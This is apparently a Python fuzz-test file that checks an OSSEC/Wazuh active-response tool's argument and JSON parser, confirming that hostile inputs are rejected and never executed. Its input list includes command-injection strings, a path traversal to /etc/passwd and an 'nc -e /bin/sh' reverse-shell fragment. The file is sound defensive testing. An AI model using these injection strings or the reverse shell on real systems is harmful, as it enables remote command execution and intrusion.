"""Fuzzing of the request parser and the entry point (hypothesis): random argv
and JSON, shell metacharacters, NULs, huge fields, invalid UTF-8. Nothing
crashes, nothing is executed; a refusal is exit 2 with exactly one log line."""
from __future__ import annotations

import ipaddress
import json
import os

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from ossec_dfir.evidence.text import display
from ossec_dfir.ar import entry
from ossec_dfir.errors import BadRequest
from ossec_dfir.ar.request import Request, from_ossec_argv, from_wazuh_json

CANARY_DIR = "/tmp/ossec-dfir-fuzz-canary"
# CI runs thousands of cases; `make fuzz` runs many more (OSSEC_DFIR_FUZZ_EXAMPLES).
EXAMPLES = int(os.environ.get("OSSEC_DFIR_FUZZ_EXAMPLES", "3000"))
NASTY = [f"$(touch {CANARY_DIR}/a)", f"`touch {CANARY_DIR}/b`", f";touch {CANARY_DIR}/c",
         "--help", "-x", "../../etc/passwd", "\x00", "\n", "A" * 70000, "1.2.3.4;id",
         "::ffff:127.0.0.1", "2001:db8::1", "127.0.0.2", "(from_the_server)", "(no_rule_id)",
         "-", "add", "delete", "1764376501.1", "5712", "|nc -e /bin/sh 1.2.3.4 4444",
         "%s%s%n", "${IFS}", "\u202e", "\udcff", "🙂", "fe80::1%eth0", "0x7f000001"]
text = st.one_of(st.sampled_from(NASTY), st.text(max_size=80),
                 st.text(alphabet="0123456789.:abcdef-", max_size=45))
ip_like = st.one_of(st.ip_addresses().map(str), text)


def assert_sane(req: Request) -> None:
    assert req.action in ("add", "delete")
    if req.srcip is not None:
        assert ipaddress.ip_address(str(req.srcip)) == req.srcip
        assert "/" not in req.key and not req.key.startswith("-")
    for value in (req.user, req.alert_id, req.rule_id, req.filename):
        assert value is None or ("\x00" not in value and "\n" not in value)
    # Fields kept as text (never used to act, never given to a tool): escaped, bounded.
    for value in (req.user, req.location, req.agent_name, req.alert_timestamp, *req.extra_args):
        assert value is None or (display(value) == value and len(value) <= 4096)


@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(st.one_of(st.sampled_from(["add", "delete", "-"]), ip_like, text), max_size=12))
def test_fuzz_ossec_argv(args):
    try:
        req = from_ossec_argv("dfir-pcap", args)
    except BadRequest:
        return
    assert_sane(req)


json_value = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), text),
    lambda children: st.lists(children, max_size=4) | st.dictionaries(text, children, max_size=4),
    max_leaves=20)


@settings(max_examples=max(EXAMPLES * 2 // 3, 1), deadline=None, suppress_health_check=list(HealthCheck))
@given(command=st.one_of(st.sampled_from(["add", "delete"]), json_value),
       srcip=st.one_of(ip_like, json_value), rule=st.one_of(text, json_value),
       extra=json_value, garbage=st.binary(max_size=64))
def test_fuzz_wazuh_json(command, srcip, rule, extra, garbage):
    msg = {"version": 1, "command": command,
           "parameters": {"extra_args": extra,
                          "alert": {"rule": {"id": rule}, "data": {"srcip": srcip}}}}
    line = (json.dumps(msg) + "\n").encode()
    for candidate in (line, garbage + line, line[: len(line) // 2], garbage):
        try:
            req = from_wazuh_json("dfir-pcap", candidate)
        except BadRequest:
            continue
        assert_sane(req)


@pytest.fixture
def ar_config(tmp_path, monkeypatch):
    conf = tmp_path / "c.yml"
    conf.write_text(f"evidence_root: {tmp_path}/ev\nlog_file: {tmp_path}/ar.log\n"
                    "reserve_bytes: 0\nmax_workers: 1\n")
    monkeypatch.setenv("OSSEC_DFIR_CONFIG", str(conf))
    os.makedirs(CANARY_DIR, exist_ok=True)
    return tmp_path


def test_fuzz_entry_point_in_process(ar_config):
    """The whole entry point (parse, config, store, queue) on random argv."""
    log = ar_config / "ar.log"

    def invocation_lines() -> int:
        # The detached workers of accepted invocations add their outcome lines
        # ("ossec-dfir: outcome=...") whenever they finish; count only ours.
        if not log.exists():
            return 0
        return sum(1 for line in log.read_text().splitlines()
                   if not line.startswith("ossec-dfir: "))

    @settings(max_examples=max(EXAMPLES // 10, 1), deadline=None, suppress_health_check=list(HealthCheck))
    @given(st.lists(st.one_of(st.sampled_from(NASTY), text), min_size=1, max_size=8))
    def one(args):
        before = invocation_lines()
        evidence = ar_config / "ev"
        incidents_before = set(os.listdir(evidence)) if evidence.exists() else set()
        code = entry.main("dfir-host", ["/x/active-response/bin/dfir-host"] + args)
        assert code in (0, 2)
        assert invocation_lines() == before + 1
        if code == 2:
            now = set(os.listdir(evidence)) if evidence.exists() else set()
            assert now == incidents_before
    one()
    assert os.listdir(CANARY_DIR) == []
